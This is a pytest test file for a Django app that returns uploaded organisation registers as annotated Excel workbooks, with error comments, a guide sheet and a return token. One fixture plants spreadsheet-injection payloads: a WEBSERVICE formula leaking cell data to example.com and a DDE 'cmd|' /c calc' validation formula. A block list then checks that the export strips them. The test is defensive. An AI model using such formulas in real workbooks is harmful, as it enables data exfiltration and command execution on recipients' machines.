"""The own workbook comes back with what is wrong marked in it, harmless, and is known again when it is brought again."""

import hashlib
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from django.urls import reverse
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.corpus import books as corpus
from tests.corpus.score import FORMATS
from tests.registers import books
from tests.registers.test_plan import HEADER, row
from tests.registers.wizard import bring, page, text
from xiaoyi_partybuild.access.events import Event, Kind
from xiaoyi_partybuild.registers import annotated, apply, reviewing, store, tasks
from xiaoyi_partybuild.registers.models import Upload

ON = date(2026, 11, 23)
TITLE, TOTAL = ["名册（截至2019年12月31日）"], ["合计", 3]
ROWS = [TITLE, HEADER, row(kind="社会"), row("乙协会", 2), row("丙协会", 3, kind="政府"), TOTAL]
WRONG = books.xlsx(ROWS, merged=["A1:F1"])
TYPE = "organization.type"


def latest():
    return Upload.objects.first()


def marked(kind=annotated.WHOLE, upload=None):
    data = annotated.make(upload or latest(), kind, on=ON)
    return openpyxl.load_workbook(io.BytesIO(data))


def guide(book):
    return [[cell.value for cell in line] for line in book[annotated.GUIDE].iter_rows()]


# --- what is marked


def test_wrong_cells_are_coloured_and_say_why_and_what_would_be_right(desk):
    bring(desk, WRONG)
    wrong = marked()["名册"]["C3"]
    assert wrong.fill.fgColor.rgb != marked()["名册"]["C4"].fill.fgColor.rgb
    assert "✕ 错误：“社会”不在可选内容里" in wrong.comment.text
    assert "建议：改成“社会团体”" in wrong.comment.text
    assert marked()["名册"]["C4"].comment is None


def test_the_first_sheet_says_what_to_put_right_with_a_link_to_each_cell(desk):
    bring(desk, WRONG)
    book = marked()
    assert book.sheetnames == [annotated.GUIDE, "名册"]
    lines = guide(book)
    assert "错误 2 处" in lines[1][0]
    assert latest().token.hex in lines[4][0]
    assert lines[7][1:7] == ["C5", "社会组织类型", "✕ 错误", "政府", lines[7][5], None]
    assert book[annotated.GUIDE]["B7"].hyperlink.location == "'名册'!C3"
    assert book.active.title == annotated.GUIDE


def test_a_row_without_a_cell_of_its_own_to_blame_is_marked_at_its_first_cell(desk, make, abroad):
    make.organization(name="外地协会", credit_code=row(number=9)[1], region=abroad)
    bring(desk, books.xlsx([HEADER, row("外地协会", 9), row()]))
    assert "管理范围" in marked()["名册"]["A2"].comment.text


def test_what_was_put_right_on_the_page_stands_in_the_workbook(desk):
    bring(desk, WRONG)
    desk.post(page("fix"), {"cell": "C3", "adopt": 1})
    cell = marked()["名册"]["C3"]
    assert cell.value == "社会团体"
    assert "导入时已经改成“社会团体”" in cell.comment.text


def test_cells_of_merged_areas_are_marked_at_the_corner(desk):
    rows = [HEADER, row(town="火星镇"), [*row("乙协会", 2)[:5], None]]
    bring(desk, books.xlsx(rows, merged=["F2:F3"]))
    assert marked()["名册"]["F2"].comment.text.count("火星镇") == 2


def test_personal_numbers_are_masked_in_what_is_said():
    kept = {"problems": {"member.id_number": [dict.fromkeys(["label", "question"], "") | WRONG_NUMBER]}, "row": 3}
    (told,) = reviewing.problems(kept, ["member.id_number"])
    assert (told["message"], told["proposal"], told["written"]) == ("“1411**********0013”不对", "1411**********001X", "")


WRONG_NUMBER = {
    "level": "warning",
    "message": "“141181199001010013”不对",
    "proposal": "14118119900101001X",
    "written": "141181199001010013",
    "cell": "F3",
    "others": 0,
    "as_word": False,
}


# --- its looks stay, what could act goes


def dressed(change=lambda book: None):
    """The wrong workbook with looks of its own."""
    book = openpyxl.load_workbook(io.BytesIO(WRONG))
    sheet = book["名册"]
    sheet["A2"].font = Font(name="黑体", bold=True)
    sheet["B4"].fill = PatternFill("solid", fgColor="FF00FF00")
    sheet.column_dimensions["A"].width = 33
    sheet.row_dimensions[2].height = 41
    sheet.freeze_panes = "A3"
    change(book)
    return books.saved(book)


def test_fonts_fills_widths_heights_and_merged_areas_stay(desk):
    bring(desk, dressed())
    sheet = marked()["名册"]
    assert (sheet["A2"].font.name, sheet["A2"].font.bold) == ("黑体", True)
    assert sheet["B4"].fill.fgColor.rgb == "FF00FF00"
    assert (sheet.column_dimensions["A"].width, sheet.row_dimensions[2].height) == (33, 41)
    assert (sheet.freeze_panes, [str(area) for area in sheet.merged_cells.ranges]) == ("A3", ["A1:F1"])


def acting(book):
    sheet = book["名册"]
    sheet["H3"] = '=WEBSERVICE("http://example.com/"&A3)'
    sheet["H4"].value, sheet["H4"].data_type = "=1+1", "s"
    sheet["H5"] = "看网页"
    sheet["H5"].hyperlink = "http://example.com/"
    sheet["D4"].comment = Comment("请核对", "赵某某")
    sheet.conditional_formatting.add("A1:F9", FormulaRule(formula=["A1=1"]))
    for formula in ('"社会团体,基金会"', "字典!$A$1:$A$3", "[1]字典!$A$1", "cmd|' /c calc'!A1", "名单"):
        validation = DataValidation(type="list", formula1=formula)
        validation.add("C3")
        sheet.add_data_validation(validation)
    book.defined_names["名单"] = DefinedName("名单", attr_text="[1]外部!$A$1")
    book.properties.creator, book.properties.lastModifiedBy = "赵某某", "钱某某"


BANNED = ("<f>", "<f ", "WEBSERVICE", "example.com", "赵某某", "钱某某", "externalLink", "conditionalFormatting", "cmd|")


def test_nothing_that_could_act_goes_out(desk):
    bring(desk, dressed(acting))
    data = annotated.make(latest(), annotated.WHOLE, on=ON)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    whole = "".join(parts.values())
    for banned in BANNED:
        assert banned not in whole
    sheet = openpyxl.load_workbook(io.BytesIO(data))["名册"]
    assert sheet["H4"].value == "=1+1"
    assert (sheet["H4"].data_type, sheet["H4"].quotePrefix) == ("s", True)
    assert sheet["D4"].comment.text == "请核对"
    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ['"社会团体,基金会"', "字典!$A$1:$A$3"]


@pytest.mark.parametrize(
    "data", [books.xls([HEADER, row(kind="社会")]), books.csv([HEADER, row(kind="社会")])], ids=["xls", "csv"]
)
def test_other_kinds_come_back_as_new_workbooks_with_the_same_cells(desk, data):
    bring(desk, data, name="名册.xls")
    book = marked()
    sheet = book.worksheets[1]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert "建议：改成“社会团体”" in sheet["C2"].comment.text


def test_a_sheet_written_anew_keeps_gaps_dates_faults_and_merged_areas(desk):
    rows = [TITLE, [], HEADER, row(town="火星镇", day=date(2015, 6, 1)), [*row("乙协会", 2)[:5], None]]
    data = books.xls(rows, sheet="名册", merged=[(3, 4, 5, 5)])
    bring(desk, data, name="名册.xls")
    sheet = marked().worksheets[1]
    assert [cell.value for cell in sheet["A"]] == ["名册（截至2019年12月31日）", None, "社会组织名称", "甲协会", "乙协会"]
    assert [str(area) for area in sheet.merged_cells.ranges] == ["F4:F5"]
    assert sheet["F4"].comment.text.count("火星镇") == 2
    assert sheet["B4"].number_format == "@"


def test_what_cannot_be_loaded_with_its_looks_is_written_anew(desk, monkeypatch):
    bring(desk, dressed())
    asked = []
    real = annotated._ask

    def ask(what, *arguments):
        asked.append(what)
        if what == "styled":
            raise annotated.NotMade("no")
        return real(what, *arguments)

    monkeypatch.setattr(annotated, "_ask", ask)
    assert "社会" in marked()["名册"]["C3"].value
    assert asked == ["styled", "plain"]


def test_a_broken_workbook_ends_in_a_sentence(desk, monkeypatch):
    bring(desk, WRONG)
    monkeypatch.setattr(annotated, "ANNOTATOR", annotated.ANNOTATOR.with_name("nowhere.py"))
    response = desk.post(page("order_marked"), follow=True)
    assert "做不成带批注的文件" in text(response)
    assert annotated.token_in(b"PK broken") == ""


def test_a_hanging_annotator_is_ended(desk, monkeypatch, tmp_path):
    script = tmp_path / "hang.py"
    script.write_text("import time; time.sleep(60)")
    monkeypatch.setattr(annotated, "ANNOTATOR", script)
    monkeypatch.setattr(annotated, "WALL_SHARE", 0.02)
    assert annotated.token_in(b"PK") == ""


@pytest.mark.parametrize(("kind", "rows"), [(annotated.WHOLE, 3), (annotated.ERRORS, 2)])
def test_fetching_it_is_told_with_its_rows_and_its_digest(desk, department, kind, rows):
    bring(desk, WRONG)
    answer = desk.post(reverse("registers:order_marked", args=[latest().token, kind]), follow=True)
    told = Event.objects.get(kind=Kind.EXPORTED)
    assert (told.by, told.object_pk, told.reason) == (department, latest().pk, annotated.KINDS[kind])
    assert told.facts == {"rows": rows, "sha256": hashlib.sha256(answer.getvalue()).hexdigest()}


# --- only the rejected rows


def test_only_the_rows_with_errors_under_the_same_header(desk):
    bring(desk, WRONG)
    sheet = marked(annotated.ERRORS)["名册"]
    values = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert [line[0] for line in values] == ["名册（截至2019年12月31日）", "社会组织名称", "甲协会", "丙协会"]
    assert "社会" in sheet["C3"].comment.text
    assert "政府" in sheet["C4"].comment.text


def test_group_rows_come_along_counted_anew_and_merged_values_stand_in_each_row(desk):
    rows = [
        HEADER,
        ["一、社会团体（3家）"],
        row(),
        row("乙协会", 2, day="哪天"),
        [*row("丙协会", 3, day="哪天")[:5], None],
        ["二、基金会（1家）"],
        row("丁基金会", 4, kind="基金会"),
    ]
    bring(desk, books.xlsx(rows, merged=["A2:F2", "A6:F6", "F4:F5"]))
    sheet = marked(annotated.ERRORS)["名册"]
    values = [[cell.value for cell in line] for line in sheet.iter_rows(max_col=6)]
    assert [line[0] for line in values] == ["社会组织名称", "一、社会团体（2家）", "乙协会", "丙协会"]
    assert values[3][5] == "新义街道"


def test_the_rows_with_errors_go_in_after_they_were_put_right(desk):
    bring(desk, WRONG)
    desk.post(page("commit"))
    book = marked(annotated.ERRORS)
    for cell in ("C3", "C4"):
        book["名册"][cell] = "社会团体"
    response = bring(desk, books.saved(book), name="错误行.xlsx")
    assert "导入 2 行" in text(response)
    assert latest().follows == Upload.objects.last()


# --- known again


def returned(client, change=lambda book: None, *, upload=None):
    book = marked(upload=upload)
    change(book)
    return bring(client, books.saved(book), name="改好.xlsx")


def right(book):
    book["名册"]["C3"] = book["名册"]["C5"] = "社会团体"


def test_a_return_is_known_and_asks_only_what_is_still_open(desk):
    bring(desk, WRONG)
    desk.post(page("answer"), {"target": TYPE, "word": "政府", "label": "社会团体"})
    desk.post(page("policy"), {"policy": "fill"})
    desk.post(page("fix"), {"cell": "C3", "text": "基金会"})
    first = latest()
    response = returned(desk)
    shown = text(response)
    second = latest()
    assert "改正稿" in shown
    assert "系统写的改正说明" in shown
    assert second.follows == first
    assert second.choices == {"values": {TYPE: {"政府": "社会团体"}}, "policy": "fill"}
    assert "导入 3 行" in shown
    assert "请您定一下" not in shown


def without_property(data):
    """The same workbook as a program writes it that knows no properties."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    book.custom_doc_props = type(book.custom_doc_props)()
    return books.saved(book)


def without_guide(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    del book[annotated.GUIDE]
    return books.saved(book)


@pytest.mark.parametrize("lose", [without_property, without_guide])
def test_the_mark_is_found_in_either_place(desk, lose):
    bring(desk, WRONG)
    data = lose(annotated.make(latest(), annotated.WHOLE, on=ON))
    assert annotated.token_in(data) == latest().token.hex


def test_an_old_kind_of_workbook_is_known_by_its_sheet(desk):
    bring(desk, WRONG)
    data = books.xls([["要改的地方"], [f"核对编号：{latest().token.hex}（请不要删）"]], sheet=annotated.GUIDE)
    assert annotated.token_in(data) == latest().token.hex


def test_other_files_are_nobodys_return(desk):
    for data in (WRONG, books.csv(ROWS), books.xls([HEADER]), b"PK\x03\x04", b"\xd0\xcf\x11\xe0"):
        assert annotated.token_in(data) == ""


def test_a_return_by_somebody_else_is_just_a_file(desk, client_of, township):
    bring(desk, WRONG)
    desk.post(page("policy"), {"policy": "fill"})
    data = annotated.make(latest(), annotated.WHOLE, on=ON)
    bring(client_of(township), data)
    assert (latest().by, latest().follows, latest().choices) == (township, None, {})


def test_chosen_columns_stay_only_where_their_headings_stand(desk):
    bring(desk, WRONG)
    desk.post(page("columns") + "?change=D", columns_of(latest(), D=""))
    first = latest()
    assert first.choices["columns"] == {"D": ""}
    returned(desk)
    assert latest().choices["columns"] == {"D": ""}

    def insert(book):
        book["名册"].insert_cols(1)
        book["名册"]["A2"] = "序号"

    returned(desk, insert, upload=first)
    assert latest().follows == first
    assert "columns" not in latest().choices


def columns_of(upload, **columns):
    asked = {f"column_{letter}": told for letter, told in columns.items()}
    return {"register": upload.register, "sheet": "名册"} | asked


def test_a_second_return_has_no_stale_marks(desk):
    bring(desk, WRONG)
    returned(desk, lambda book: book["名册"].__setitem__("C3", "社会团体"))
    book = marked()
    assert book.sheetnames == [annotated.GUIDE, "名册"]
    assert (book["名册"]["C3"].comment, book["名册"]["C3"].fill.fill_type) == (None, None)
    assert book["名册"]["C5"].comment.text.count("错误") == 1


def test_a_large_return_is_known_by_the_worker(desk, large):
    bring(desk, WRONG)
    first = latest()
    desk.post(page("policy"), {"policy": "fill"})
    returned(desk, right)
    assert (latest().follows, latest().choices) == (first, {"policy": "fill"})


# --- ordering and fetching


def test_a_small_workbook_is_there_at_once_under_the_files_name(desk):
    bring(desk, WRONG)
    response = desk.post(page("order_marked"), follow=True)
    assert "filename*=utf-8''%E5%90%8D%E5%86%8C" in response.headers["Content-Disposition"]
    assert openpyxl.load_workbook(io.BytesIO(response.getvalue())).sheetnames[0] == annotated.GUIDE


def test_a_large_one_is_made_by_the_worker_and_waited_for(desk, idle, monkeypatch):
    monkeypatch.setattr(tasks, "AT_ONCE", 10**6)
    bring(desk, WRONG)
    monkeypatch.setattr(tasks, "AT_ONCE", 0)
    monkeypatch.setattr(type(tasks.mark), "enqueue", lambda *arguments: None)
    response = desk.post(page("order_marked"), follow=True)
    assert response.redirect_chain[-1][0] == page("marked")
    assert "正在做带批注的表" in text(response)
    assert desk.get(page("marked_file")).url == page("marked")
    tasks.mark.call(latest().pk, latest().by_id, ON.isoformat(), annotated.WHOLE)
    assert "做好了" in text(desk.get(page("marked"), headers={"HX-Request": "true"}))
    assert desk.get(page("marked_file")).status_code == 200


def test_one_that_cannot_be_made_is_said(desk, monkeypatch):
    bring(desk, WRONG)
    monkeypatch.setattr(annotated, "ANNOTATOR", annotated.ANNOTATOR.with_name("nowhere.py"))
    tasks.mark.call(latest().pk, latest().by_id, ON.isoformat(), annotated.WHOLE)
    assert "做不成带批注的表" in text(desk.get(page("marked")))


def test_what_was_made_goes_stale_with_the_review(desk):
    bring(desk, WRONG)
    desk.post(page("order_marked"))
    assert store.has_made(latest(), annotated.WHOLE)
    desk.post(page("fix"), {"cell": "C3", "adopt": 1})
    assert not store.has_made(latest(), annotated.WHOLE)


@pytest.mark.parametrize("name", ["order_marked", "marked", "marked_file"])
def test_a_foreign_workbook_does_not_exist(desk, client_of, township, name):
    bring(desk, WRONG)
    other = client_of(township)
    assert (other.post if name == "order_marked" else other.get)(page(name)).status_code == 404
    assert desk.get(re.sub("whole", "nonsense", page("marked"))).status_code == 404


# --- the rows that wait


def test_rows_with_errors_are_listed_after_the_import_and_go_on_as_a_new_one(desk):
    bring(desk, WRONG)
    shown = text(desk.post(page("commit"), follow=True))
    for words in ("没有导入的行：2 行有错误", "丙协会", "C5 社会组织类型：“政府”", "继续改错误行", "下载错误行"):
        assert words in shown
    first = latest()
    response = desk.post(page("again", first), follow=True)
    shown = text(response)
    assert response.redirect_chain[-1][0] == page("review")
    assert "接着" in shown
    assert (latest().follows, latest().counts["same"], latest().counts["reject"]) == (first, 1, 2)
    desk.post(page("again", first))
    assert Upload.objects.count() == 2


def test_corrections_made_before_the_import_go_along(desk):
    bring(desk, WRONG)
    desk.post(page("fix"), {"cell": "C3", "adopt": 1})
    desk.post(page("commit"))
    desk.post(page("again"))
    assert (latest().choices["cells"], latest().counts["same"]) == ({"C3": "社会团体"}, 2)


def test_what_waits_is_not_for_others_nor_before_its_time(desk, client_of, township):
    bring(desk, WRONG)
    assert desk.post(page("again")).url == page("step")
    desk.post(page("commit"))
    assert client_of(township).post(page("again")).status_code == 404
    assert Upload.objects.count() == 1


def test_who_has_left_too_much_is_told_so(desk, settings):
    bring(desk, WRONG)
    desk.post(page("commit"))
    settings.UPLOAD_MOST_WAITING = 0
    assert "还有 0 份文件没有导入" in text(desk.post(page("again"), follow=True))


def test_the_result_can_be_filed(desk):
    bring(desk, WRONG)
    desk.post(page("fix"), {"cell": "C3", "adopt": 1})
    assert desk.post(page("marked").replace("whole", "result/order")).status_code == 404
    desk.post(page("commit"))
    response = desk.post(page("order_marked").replace("whole", "result"), follow=True)
    book = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    changed = [[cell.value for cell in line] for line in book["改动"].iter_rows()]
    assert [line[:4] for line in changed[1:]] == [
        ["社会组织", "甲协会", "新增", "名册 第 3 行"],
        ["社会组织", "乙协会", "新增", "名册 第 4 行"],
    ]
    assert "社会组织类型：社会团体 C3（导入时改过）" in changed[1][4]
    assert [cell.value for cell in book["没有导入的行"][2]][:2] == [5, "丙协会"]
    assert book.properties.creator is None


# --- workbooks as offices have them


@pytest.mark.parametrize("kind", FORMATS)
def test_an_untidy_workbook_of_every_kind_comes_back_marked_and_reads_the_same(uploads, department, home, kind):
    _, _, draft = next(made for made in corpus.made() if made[1] == kind)
    told = {"by": department, "on": ON, "register": draft.slug}
    first = apply.take_in(FORMATS[kind](draft), f"名册.{kind}", **told)
    second = apply.take_in(annotated.make(first, annotated.WHOLE, on=ON), "改好.xlsx", **told)
    assert (second.follows, second.counts) == (first, first.counts)
